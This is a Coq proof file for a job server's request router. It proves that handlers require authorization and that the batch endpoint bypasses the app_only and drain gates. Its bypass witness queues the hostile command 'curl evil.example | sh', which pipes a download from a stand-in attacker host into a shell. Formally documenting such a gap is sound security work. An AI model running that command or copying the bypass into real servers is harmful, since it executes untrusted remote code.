(* ===== verification/RouterProps.v ===== *)
(** Properties of the dispatch of requests: no handler runs without
    authorization, and what the batch endpoint lets through. *)
From S2P Require Import Prelude Job Uuid Heap Queue Json Events Httpd Registry Sql Db DbAdmin DbProps Allocator JobOps Transfer Config System SysFixture Sha256 Auth Http Batches Apps AppsProps Submit SubmitProps Workflow Accounts Views Admin Router.

(** ** Authorization *)

(** What only an administrator may call. *)
Definition needs_admin (ep : Endpoint) : bool :=
  match ep with
  | GetPresim | UpdatePresim | Maintenance _ | Metrics | PurgeJobs | AddMachine | RemoveMachine _
  | ListQuotas | UpsertQuota | DeleteQuota | ListKeys | CreateKey | RevokeKey | UpsertApp | DeleteApp _
  | ListUsers | CreateUsers | UpdateUser | DeleteUser | ListEvents | ReportJobs | ReportUsers | ReportApps
  | ReportMachines | MachinesStatus | CloudProvision | CloudDeprovision | WakeOnLan => true
  | _ => false
  end.

(** A row of the key table that the header names and that is valid. *)
Definition key_valid (now : Z) (k : ApiKeyInfo) : Prop :=
  k_revoked k = 0 ∧ (k_expires_at k ≤ 0 ∨ now ≤ k_expires_at k).

(** Who may call an endpoint. *)
Inductive authorized (t : Tables) (user role : string) : Endpoint → Prop :=
  | authorized_admin ep : role = "admin" → authorized t user role ep
  | authorized_user ep : needs_admin ep = false → (∀ id action, ep ≠ OnJob id action) → authorized t user role ep
  | authorized_owner row action : row ∈ t_jobs t → j_user_id (row_to_job row) = user → user ≠ "" →
      authorized t user role (OnJob (j_id row) action).

Lemma dispatch_user method seg experimental : needs_admin (dispatch method seg false experimental) = false.
Proof.
  unfold dispatch, dispatch_jobs, dispatch_workflows, dispatch_workers.
  repeat match goal with |- context [if ?b then _ else _] => destruct b; try reflexivity end.
Qed.

Lemma wsys_read {A} (m : ST Sys A) w a : m (w_sys w) = (a, w_sys w) → wsys m w = (a, w).
Proof. intros H. unfold wsys. rewrite H. by destruct w. Qed.

Lemma serve_web_file_read c path s : (serve_web_file c path s).2 = s.
Proof. unfold serve_web_file. by destruct (traversal path). Qed.

(** A request that is not for a public route has changed nothing yet. *)
Lemma public_route_none c rq w w' : public_route c rq w = (None, w') → w' = w.
Proof.
  unfold public_route. rewrite bind_step. unfold st_get at 1. cbn [fst snd]. cbv zeta.
  assert (∀ r w0, reply r w0 = (None, w') → w' = w) as Hr by (intros r w0 [=]).
  assert (∀ m, answered m w = (None, w') → w' = w) as Ha.
  { intros m. unfold answered. rewrite bind_step. destruct (wsys m w); cbn. intros [=]. }
  repeat match goal with |- context [if ?b then _ else _] => destruct b end; try solve [apply Hr | apply Ha].
  - rewrite bind_step. destruct (auth_login _ _ _ _). cbn. apply Hr.
  - intros [= ->]. done.
Qed.

(** C6. No handler runs without authorization.  With a database that answers,
    a request is for a public route, or it is refused with 401, 403 or 404 and
    changes nothing, or its X-API-Key is the preimage of the hash of a stored
    key that is neither revoked nor expired, and it runs the endpoint that the
    path names, as that key's user and role, where an endpoint of the
    administration needs the role of an administrator, and an endpoint of a
    job that role or the ownership of the job. *)
Theorem requests_are_authorized (c : Call) (io : HandlerIo) (rq : Request) (w w' : Web) (r : option Reply)
    (Hh : healthy_db (y_db (w_sys w))) (Hrun : routes_handler c io rq w = (r, w')) :
  (∃ answer, public_route c rq w = (Some answer, w') ∧ r = Some answer) ∨
  (w' = w ∧ ∃ code msg, r = Some (http_error code msg) ∧ code ∈ [401; 403; 404]) ∨
  ∃ raw k ep, let t := tables (y_db (w_sys w)) in let role := cbuf 16 (k_role k) in let user := cbuf 128 (k_user_id k) in
    rq_header rq "X-API-Key" = Some raw ∧ k ∈ t_api_keys t ∧ k_key_hash k = auth_hash_key (ca_stack c) raw ∧
    key_valid (clock (y_db (w_sys w))) k ∧
    ep = dispatch (request_method rq) (segment rq) (is_admin role) (negb (cfg_int (w_cfg w) experimental_features_enabled =? 0)) ∧
    authorized t user role ep ∧ run_endpoint c io rq user role ep w = (r, w').
Proof.
  revert Hrun. unfold routes_handler. rewrite bind_step. destruct (public_route c rq w) as [[answer|] w0] eqn:Ep; cbn [fst snd].
  { intros [= <- <-]. left. by exists answer. }
  apply public_route_none in Ep as ->. intros Hrun. right. revert Hrun. rewrite bind_step. unfold auth_check_role_user.
  destruct (extract_key_hash _ _) as [hash|] eqn:Ehash.
  2: { rewrite (wsys_read _ w None) by by apply ydb_read. intros [= <- <-]. left. split; [done|]. eexists _, _. split; [done|set_solver]. }
  destruct (db_resolve_api_key_full hash 128 (y_db (w_sys w))) as [auth d] eqn:Er.
  assert (d = y_db (w_sys w)) as ->.
  { destruct Hh as (_ & Ho & Hos). rewrite resolve_healthy in Er by done. by injection Er as _ <-. }
  rewrite (wsys_read _ w auth) by by apply ydb_read. cbn [fst snd].
  destruct auth as [[role user]|]; [|intros [= <- <-]; left; split; [done|]; eexists _, _; split; [done|set_solver]].
  apply resolve_some in Er as (k & Hk & Hkh & Hrev & Hexp & -> & ->).
  destruct (rq_header rq "X-API-Key") as [raw|] eqn:Eraw; [|done].
  assert (hash = auth_hash_key (ca_stack c) raw) as ->.
  { unfold extract_key_hash in Ehash. by repeat case_match; simplify_eq. }
  rewrite bind_step. cbn [st_get fst snd]. set (ep := dispatch _ _ _ _). intros Hrun.
  assert (authorized (tables (y_db (w_sys w))) (cbuf 128 (k_user_id k)) (cbuf 16 (k_role k)) ep →
    ∃ raw' k' ep', Some raw = Some raw' ∧ k' ∈ t_api_keys (tables (y_db (w_sys w))) ∧ k_key_hash k' = auth_hash_key (ca_stack c) raw' ∧
      key_valid (clock (y_db (w_sys w))) k' ∧
      ep' = dispatch (request_method rq) (segment rq) (is_admin (cbuf 16 (k_role k'))) (negb (cfg_int (w_cfg w) experimental_features_enabled =? 0)) ∧
      authorized (tables (y_db (w_sys w))) (cbuf 128 (k_user_id k')) (cbuf 16 (k_role k')) ep' ∧
      run_endpoint c io rq (cbuf 128 (k_user_id k')) (cbuf 16 (k_role k')) ep' w = (r, w')) as Hdone.
  { intros Ha. exists raw, k, ep. done. }
  destruct (is_admin (cbuf 16 (k_role k))) eqn:Eadm.
  { right. apply Hdone, authorized_admin. by apply String.eqb_eq. }
  assert (needs_admin ep = false) as Hep by apply dispatch_user.
  assert ((∃ id action, ep = OnJob id action) ∨ ∀ id action, ep ≠ OnJob id action) as [(id & action & Hjob)|Hno].
  { destruct ep; try (right; done). left. by eexists _, _. }
  2: { right. by apply Hdone, authorized_user. }
  revert Hrun. rewrite Hjob. unfold run_endpoint, on_job. rewrite bind_step. cbn [st_get fst snd]. rewrite Eadm, bind_step.
  rewrite (wsys_read _ w (row_to_job <$> head (where_ (job_is id) (t_jobs (tables (y_db (w_sys w)))))))
    by (apply ydb_read, db_get_job_healthy, Hh).
  cbn [fst snd]. destruct (owns_job _ _) eqn:Eown; [|intros [= <- <-]; left; split; [done|]; eexists _, _; split; [done|set_solver]].
  intros Hrun. right. destruct (head (where_ _ _)) as [row|] eqn:Erow; [|done]. apply head_Some_elem_of, where_elem in Erow as [Hid Hrow].
  cbn [fmap option_fmap option_map owns_job] in Eown. apply andb_prop in Eown as [Hne Hown].
  apply String.eqb_eq in Hown. apply String.eqb_eq in Hid as <-. rewrite Hown in Hne. apply str_nonempty_spec in Hne.
  apply Hdone. rewrite Hjob. by apply authorized_owner.
Qed.

(** ** A running server *)

Definition demo_key : string := "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef".
Definition demo_stack : SHA256_CTX := mkCtx (replicate 64 0) 0 0 [].

(** The body [{...}] of every request is [body]. *)
Definition server_call (body : cJSON) : Call :=
  mkCall (mkEnv config_defaults (λ _, None) (λ s, if String.eqb s "{...}" then Some body else None)
            (λ _, None) (λ _, 0) (λ n, NoUrandom 0 (Z.of_nat n)) None (mkAllocEnv true true) true true true (λ _, true))
    (λ n, Some (replicate n 171)) true (λ _, Some "...") demo_stack None (λ _, d_of_Z 0) (λ _ _, "...") (λ _ _, true).
Definition demo_io : HandlerIo := mkIo true true (λ _, true) true true.
Definition http_request (method uri : string) : Request :=
  mkRequest method uri "{...}" (λ h, if String.eqb h "X-API-Key" then Some demo_key else None) (λ _ _, None) (λ s _, Some s) 7 1.

(** A server with one key, of the user [ann], and a job of [bob]. *)
Definition server_db (jobs : list Job) : Db :=
  mkDb true false None (set_t_jobs jobs (set_t_api_keys [mkApiKey (auth_hash_key demo_stack demo_key) "key" "user" "ann" 5 0 0] no_tables)) 0 1000 [].
Definition server (accepting : bool) (jobs : list Job) : Web :=
  mkWeb (set_y_alloc (mkAllocState [] no_ledger (server_db jobs)) (small_system [] [] [])) config_defaults accepting login_rl_init [].

Lemma requests_are_authorized_witness :
  let w := server true [row "job-1" "bob" "" JOB_STATUS_RUNNING 1] in
  let run := routes_handler (server_call JNull) demo_io (http_request "GET" "/jobs/job-1") w in
  run.1 = Some (http_error 404 "Job not found") ∧
  ((∃ answer, (public_route (server_call JNull) (http_request "GET" "/jobs/job-1") w).1 = Some answer) ∨ run.2 = w ∨
   ∃ row, row ∈ t_jobs (tables (y_db (w_sys w)))).
Proof.
  intros w run. split; [vm_compute; reflexivity|].
  destruct (requests_are_authorized (server_call JNull) demo_io (http_request "GET" "/jobs/job-1") w run.2 run.1)
    as [(answer & Hp & _)|[[Hw _]|H]].
  - split; [split; reflexivity|split; reflexivity].
  - apply surjective_pairing.
  - left. exists answer. by rewrite Hp.
  - right; left. exact Hw.
  - right; right. eexists. apply list_elem_of_here.
Defined.

(** Batches bypass the two gates of submission.  The batch endpoint
    answers and acts the same whether or not the scheduler accepts jobs; and
    on a server with the default configuration, in which [command_mode] is [app_only], and that an
    administrator has told not to accept jobs, a user's POST /jobs with a
    shell command is refused for the drain, and on an accepting server for
    the raw command; but POST /batches with the same command is answered with
    201, and its job is stored and queued with that command. *)
Theorem batches_bypass_app_only_and_drain :
  let job := [("command", JString "curl evil.example | sh")] in
  let submit := routes_handler (server_call (JObject job)) demo_io (http_request "POST" "/jobs") in
  let batch := routes_handler (server_call (JObject [("jobs", JArray [JObject job])])) demo_io (http_request "POST" "/batches") (server false []) in
  (∀ c io rq user role w accepting,
     let run := run_endpoint c io rq user role SubmitBatch in
     (run (set_w_accepting_jobs accepting w)).1 = (run w).1 ∧ w_sys (run (set_w_accepting_jobs accepting w)).2 = w_sys (run w).2) ∧
  (submit (server false [])).1 = Some (http_error 503 "Scheduler is draining and not accepting new jobs") ∧
  (submit (server true [])).1 = Some (http_error 400 "Raw 'command' not allowed in app_only mode; use 'app_id' + 'parameters'") ∧
  status_of <$> batch.1 = Some 201 ∧
  (λ j, (j_command j, j_user_id j, j_status j)) <$> t_jobs (tables (y_db (w_sys batch.2))) = [("curl evil.example | sh", "ann", JOB_STATUS_QUEUED)] ∧
  (λ q, j_command <$> q_heap q) <$> y_queue (w_sys batch.2) = Some ["curl evil.example | sh"].
Proof.
  intros job submit batch. split.
  - intros c io rq user role w accepting run. unfold run, run_endpoint, answered. rewrite !bind_step. cbn [st_get fst snd].
    rewrite ?bind_step. unfold wsys. destruct w as [s cfg a rl sse]. cbn. by destruct (batches_submit _ _ _ _ _ _ _ s).
  - vm_compute. split_and!; reflexivity.
Qed.
